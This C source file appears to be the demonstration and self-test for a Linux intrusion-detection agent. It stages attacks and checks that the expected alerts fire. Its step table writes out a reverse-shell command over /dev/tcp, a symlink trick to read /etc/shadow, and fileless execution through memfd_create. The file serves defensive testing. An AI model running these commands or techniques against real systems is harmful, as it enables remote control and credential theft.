/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The demonstration: carries out attacks beside a running agent, and prints the agent's alerts.
 * It is also a test: it exits with 1 if an expected alert is missing or an unexpected one comes.
 *
 *   demo RULES          the whole demonstration; needs root and a driver
 *   demo --here RULES   the same on a machine with other users: what they open is not counted,
 *                       and their alerts are not evaluated
 *   demo --read FILE    reads a file, as a program that may
 */
#include "demo.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define ALERT_WAIT_MS	5000	/* emulated machines are slow; the latency is printed */
#define QUIET_MS	700

struct step {
	const char *title;
	const char *command;	/* the same attack as a shell command */
	int (*act)(void);	/* 0, or -errno if the attack could not be carried out */
	const char *rule;	/* the expected rule; NULL: no alert */
};

static const struct step steps[] = {
	{ .title = "A symlink in /tmp leads to /etc/shadow; a program that has no business there reads it",
	  .command = "cat /tmp/notes.txt", .act = attack_read_through_symlink,
	  .rule = "Sensitive file read by unexpected program" },
	{ .title = "The same file, read by a program that may", .command = "passwd --status",
	  .act = attack_read_by_allowed_program },
	{ .title = "A program that is not on a disk: written into memory and started from there",
	  .command = "memfd_create, write, execveat", .act = attack_run_from_memory, .rule = "Fileless execution" },
	{ .title = "A shell whose input and output are a network connection",
	  .command = "sh <> /dev/tcp/127.0.0.1/4444", .act = attack_reverse_shell, .rule = "Reverse shell" },
};

static int step_run(struct agent *agent, const struct step *step, unsigned int number)
{
	struct agent_alert alert;
	int r;

	printf("\n%u. %s\n   $ %s\n", number, step->title, step->command);
	fflush(stdout);
	r = step->act();
	if (r < 0) {
		printf("   FAILED: the attack could not be carried out: %s\n", strerror(-r));
		return 1;
	}
	if (!step->rule) {
		if (agent_next_alert(agent, &alert, QUIET_MS)) {
			printf("   FAILED: no alert was expected\n");
			agent_alert_print(&alert);
			return 1;
		}
		printf("   no alert, as expected\n");
		return 0;
	}
	if (!agent_next_alert(agent, &alert, ALERT_WAIT_MS)) {
		printf("   FAILED: no alert; \"%s\" was expected\n", step->rule);
		return 1;
	}
	agent_alert_print(&alert);
	if (strcmp(alert.rule, step->rule)) {
		printf("   FAILED: \"%s\" was expected\n", step->rule);
		return 1;
	}
	/* One attack, one alert: alerts that follow within QUIET_MS must be of the same rule. */
	while (agent_next_alert(agent, &alert, QUIET_MS)) {
		if (strcmp(alert.rule, step->rule)) {
			printf("   FAILED: an unexpected alert followed\n");
			agent_alert_print(&alert);
			return 1;
		}
	}
	return 0;
}

static int run_all(const char *rules, bool alone)
{
	struct cost bare, armed;
	struct agent agent;
	unsigned int i;
	int r, failed = 0;

	printf("Saker: a demonstration. Everything below happens now, in this kernel.\n\n");
	cost_measure(&bare);
	/* Our alerts are distinguished from others by a session of our own. */
	setsid();
	r = agent_start(&agent, rules, alone ? 0 : getsid(0));
	if (r < 0) {
		printf("FAILED: the agent did not start: %s\n",
		       r == -ECHILD ? "it ended" : strerror(-r));
		return 1;
	}
	for (i = 0; i < sizeof(steps) / sizeof(steps[0]); i++)
		failed += step_run(&agent, &steps[i], i + 1);
	printf("\n%u. The cost of one call, in this machine, in this run\n", i + 1);
	cost_measure(&armed);
	cost_print(&bare, &armed);
	failed += storm_run(&agent, rules, i + 2, alone);
	failed += agent_stop(&agent);
	if (agent.foreign)
		printf("\nOther programs of this machine caused %u alerts meanwhile.\n", agent.foreign);
	printf("\n%s\n", failed ? "The demonstration FAILED: see above." :
	       "All expected alerts came, no others came, and the sums are correct.");
	return failed ? 1 : 0;
}

static int read_file(const char *path)
{
	char buf[4096];
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return 1;
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "--read"))
		return read_file(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "--nothing"))
		return 0;
	if (argc == 3 && !strcmp(argv[1], "--here"))
		return run_all(argv[2], false);
	if (argc != 2 || argv[1][0] == '-') {
		fprintf(stderr, "usage: demo [--here] RULES\n       demo --read FILE\n");
		return 2;
	}
	return run_all(argv[1], true);
}
